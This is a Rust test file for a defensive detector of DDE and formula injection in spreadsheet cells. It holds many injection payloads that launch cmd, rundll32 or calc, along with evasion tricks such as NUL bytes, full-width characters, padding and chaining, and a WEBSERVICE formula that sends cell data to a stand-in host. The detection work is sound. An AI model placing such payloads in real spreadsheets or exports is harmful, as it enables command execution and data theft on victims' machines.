//! The formula language: what is a request, what is not, and what it costs.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, clippy::arithmetic_side_effects)]

use ddefend_grammar::formula::{Dialect, Found, Request, could_request, requests, requests_unfiltered};
use ddefend_model::trick;
use std::time::{Duration, Instant};

fn show(found: &Found) -> String {
    match &found.request {
        Request::Dde { service, topic, item } => format!("{service}|{topic}!{item}"),
        Request::Call { name, arguments } => format!("{name}({})", arguments.join(" ; ")),
    }
}

#[track_caller]
fn check(text: &str, dialect: Dialect, expected: &[&str]) -> Vec<Found> {
    let found = requests(text, dialect);
    let shown: Vec<String> = found.iter().map(show).collect();
    assert_eq!(shown, expected, "{text:?}");
    assert_eq!(found, requests_unfiltered(text, dialect), "the filter changes the result of {text:?}");
    found
}

#[track_caller]
fn cell(text: &str, expected: &[&str]) -> Vec<Found> {
    check(text, Dialect::Cell, expected)
}

#[track_caller]
fn cell_with(text: &str, expected: &str, tricks: &[&str]) {
    let found = cell(text, &[expected]);
    for trick in tricks {
        assert!(found[0].tricks.contains(trick), "{text:?} lacks {trick}: {:?}", found[0].tricks);
    }
}

#[test]
fn remote_references() {
    cell("=cmd|'/c calc'!A0", &["cmd|/c calc!A0"]);
    cell("=cmd|' /C calc'!A0", &["cmd| /C calc!A0"]);
    cell("=cmd |'/c calc'!A0", &["cmd|/c calc!A0"]);
    cell("='cmd'|'/c calc'!'A 0'", &["cmd|/c calc!A 0"]);
    cell("='it''s'|'/c it''s'!A", &["it's|/c it's!A"]);
    cell("=MTX|DATA!dgate.SON", &["MTX|DATA!dgate.SON"]);
    cell("=Excel|'C:\\x\\[b.xls]S 1'!R1C1:R2C2", &["Excel|C:\\x\\[b.xls]S 1!R1C1:R2C2"]);
    cell("=cmd.exe|'/c calc'!_xlbgnm.A1", &["cmd.exe|/c calc!_xlbgnm.A1"]);
    cell("=IF(1,cmd|'/c calc'!A0,2)", &["cmd|/c calc!A0"]);
    check("cmd|'/c calc'!A0", Dialect::Excel, &["cmd|/c calc!A0"]);
    check("msoxl:=cmd|'/c calc'!A0", Dialect::OpenFormula, &["cmd|/c calc!A0"]);
    check("msoxl:cmd|'/c calc'!A0", Dialect::OpenFormula, &["cmd|/c calc!A0"]);
    check("$A$1+RTDX|'t'!$B$2", Dialect::Excel, &["RTDX|t!$B$2"]);
}

#[test]
fn positions_are_characters() {
    let found = cell("=\u{e4}\u{f6}+cmd|'/c calc'!A0+1", &["cmd|/c calc!A0"]);
    assert_eq!((found[0].start, found[0].end), (4, 20));
}

#[test]
fn tricks() {
    cell_with("+cmd|'/c calc'!A0", "cmd|/c calc!A0", &[trick::FORMULA_PREFIX]);
    cell_with("-2+3+cmd|'/c calc'!A0", "cmd|/c calc!A0", &[trick::FORMULA_PREFIX, trick::FORMULA_CHAIN]);
    cell_with("@SUM(cmd|'/c calc'!A0)", "cmd|/c calc!A0", &[trick::FORMULA_PREFIX]);
    cell_with("@SUM(1+1)*cmd|' /C calc'!A0", "cmd| /C calc!A0", &[trick::FORMULA_CHAIN]);
    for padding in ["\t", "\r", "\n", "\u{feff}", " ", "\u{a0}", "\u{200b}", "\"", "\"\""] {
        cell_with(&format!("{padding}=cmd|'/c calc'!A0"), "cmd|/c calc!A0", &[trick::FORMULA_PADDING]);
    }
    cell_with("=\0c\0m\0d\0|\0'\0/\0c\0 calc'!A\0\u{30}", "cmd|/c calc!A0", &[trick::NUL_BYTES]);
    cell_with("=    C    m D      |'/ c c  al  c  '   !   A", "CmD|/ c c  al  c  !A", &[trick::NUL_BYTES]);
    cell_with(
        "\u{ff1d}\u{ff43}\u{ff4d}\u{ff44}\u{ff5c}'/c calc'\u{ff01}\u{ff21}\u{ff10}",
        "cmd|/c calc!A0",
        &[trick::FULL_WIDTH],
    );
    for prefix in ['\u{ff0b}', '\u{ff0d}', '\u{ff20}'] {
        cell_with(&format!("{prefix}cmd\u{ff5c}'/c calc'!A0"), "cmd|/c calc!A0", &[trick::FULL_WIDTH]);
    }
    cell_with("=cmd|\u{2018}/c calc\u{2019}!A0", "cmd|/c calc!A0", &[]);
    cell_with("=\u{2018}cmd\u{2019}|'/c calc'!A0", "cmd|/c calc!A0", &[]);
    cell_with(
        "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
        "rundll321234567890abcdefghijklmnopqrstuvwxyz|URL.dll,OpenURL calc.exe!A",
        &[trick::LONG_SERVICE],
    );
    cell_with(
        r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''",
        r"MSEXCEL|\..\..\..\Windows\System32\cmd.exe /c calc!",
        &[trick::PATH_TRICK],
    );
    let found = cell(
        "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
        &["cmd|/c calc.exe!A", "cmd|/c calc.exe!A"],
    );
    assert!(found.iter().all(|found| found.tricks.contains(&trick::FORMULA_CHAIN)));
    cell_with("=dDe(\"cmd\";\"/c calc\";\"x\")", "cmd|/c calc!x", &[trick::MIXED_CASE]);
}

#[test]
fn functions() {
    cell("=DDE(\"cmd\";\"/C calc\";\"x\")", &["cmd|/C calc!x"]);
    cell("=DDE(\"cmd\",\"/C calc\",\"x\",0)", &["cmd|/C calc!x"]);
    cell("=DDE(\"cmd\";\"/C calc\";\"x\"", &["cmd|/C calc!x"]);
    cell("=DDE (\"cmd\";\"/C calc\";\"x\")", &["cmd|/C calc!x"]);
    check("of:=DDE(\"c\"&\"md\";\"/c calc\";\"x\";1)", Dialect::OpenFormula, &["cmd|/c calc!x"]);
    check("oooc:=DDE(CHAR(99)&CHAR(109)&\"d\";(\"/c calc\");\"x\")", Dialect::OpenFormula, &["cmd|/c calc!x"]);
    check("DDE(CONCATENATE(\"c\",\"md\");A1;\"x\")", Dialect::OpenFormula, &["cmd|A1!x"]);
    check("CHAR(A1)&DDE(UPPER(A2);\"t\";\"x\")", Dialect::Excel, &["UPPER(A2)|t!x"]);
    cell("=_xlfn.WEBSERVICE(\"http://x.example/?\"&A1)", &["WEBSERVICE(\"http://x.example/?\"&A1)"]);
    cell("=IMPORTXML(\"http://x.example/\"&\"a\",\"//a\")", &["IMPORTXML(http://x.example/a ; //a)"]);
    cell(
        "=HYPERLINK(WEBSERVICE(\"http://x.example\"),\"a\")",
        &["HYPERLINK(WEBSERVICE(\"http://x.example\") ; a)", "WEBSERVICE(http://x.example)"],
    );
    check("=EXEC(\"calc\")", Dialect::Excel, &["EXEC(calc)"]);
    check("=REGISTER.ID(\"k\",\"x\")", Dialect::Excel, &["REGISTER.ID(k ; x)"]);
    check("INITIATE(\"EXCEL\",\"t\")", Dialect::Excel, &["INITIATE(EXCEL ; t)"]);
    check("RTD(\"prog.id\",,\"t\")", Dialect::Excel, &["RTD(prog.id ;  ; t)"]);
}

#[test]
fn silent() {
    for text in [
        "-5",
        "+1 555 123",
        "2021-01-02",
        "@name",
        "mail@example.org",
        "| a | b !",
        "=a||b",
        "-x|y!",
        "|x|!",
        "= | !",
        "cmd|'/c calc'!A0",
        "'=cmd|'/c calc'!A0",
        "=\"cmd|'/c calc'!A0\"",
        "=A1|B1",
        "- a | b!c",
        "-5|3!2",
        "+ a |b! c",
        "=Sheet1!A1",
        "='C:\\[b.xls]S'!A1",
        "=SUM(A1:A9)",
        "=BADDE(\"a\";\"b\")",
        "=DDE(\"a\")",
        "=DDEX(\"a\";\"b\")",
        "--- | --- | !x",
        "=cmd|",
        "=cmd|'",
        "=cmd|'x",
        "=cmd|'x'",
        "=|'x'!A",
        "DDE(\"cmd\";\"x\")",
        "",
        "=",
        "ls | wc!",
    ] {
        cell(text, &[]);
    }
    check("=\"a|b!c\"&\"x\"\"|'y'!z\"", Dialect::Excel, &[]);
    check("{1;2|3;4}", Dialect::OpenFormula, &[]);
}

#[test]
fn cost_is_linear() {
    let long = 100_000;
    for unit in [
        "|", "'", "\"", "a|", "a|b", "a|'", "a|'b'", "(", "DDE(", "DDE(\"", "a|b!", "=", "x ", "a|b!c+", "\0", "[",
        "CHAR(9)&", "\u{ff5c}",
    ] {
        let text = format!("={}", unit.repeat(long));
        let start = Instant::now();
        for dialect in [Dialect::Cell, Dialect::Excel, Dialect::OpenFormula] {
            let _ = requests(&text, dialect);
        }
        // Generous for an unoptimised build on a loaded machine: quadratic cost would take minutes.
        assert!(start.elapsed() < Duration::from_secs(8), "{unit:?} takes {:?}", start.elapsed());
    }
}

/// A small generator with a fixed seed: the same texts in every run.
fn texts(count: usize) -> impl Iterator<Item = String> {
    let words = [
        "=",
        "+",
        "@",
        "cmd",
        "|",
        "'",
        "\"",
        "!",
        "A0",
        "/c calc",
        " ",
        "\0",
        "DDE(",
        ")",
        ";",
        ",",
        "&",
        "CHAR(99)",
        "\u{ff5c}",
        "\u{ff1d}",
        "\u{2019}",
        "_xlfn.WEBSERVICE(",
        "é",
        "\u{1f4a9}",
        "{",
        "}",
        "''",
        "\t",
        "of:=",
        "\"\"",
    ];
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state >> 33).unwrap()
    };
    (0..count).map(move |_| (0..next() % 24).map(|_| words[next() % words.len()]).collect())
}

#[test]
fn any_text_is_survived_and_the_filter_agrees() {
    for text in texts(20_000) {
        for dialect in [Dialect::Cell, Dialect::Excel, Dialect::OpenFormula] {
            let slow = requests_unfiltered(&text, dialect);
            assert_eq!(requests(&text, dialect), slow, "{text:?}");
            assert!(slow.is_empty() || could_request(&text));
            let length = text.chars().count();
            assert!(slow.iter().all(|found| found.start < found.end && found.end <= length), "{text:?} {slow:?}");
        }
    }
}

#[test]
fn reading_again_gives_the_same() {
    for text in texts(5_000) {
        for found in requests(&text, Dialect::Excel) {
            let Request::Dde { service, topic, item } = &found.request else { continue };
            let quote = |word: &str| format!("'{}'", word.replace('\'', "''"));
            let written = format!("{}|{}!{}", quote(service), quote(topic), quote(item));
            let again = requests(&written, Dialect::Excel);
            if service.chars().any(char::is_alphabetic)
                && !topic.is_empty()
                && !written.contains(['\0', '\u{ff5c}', '\u{ff1d}'])
            {
                assert_eq!(again.first().map(|found| &found.request), Some(&found.request), "{text:?} {written:?}");
            }
        }
    }
}
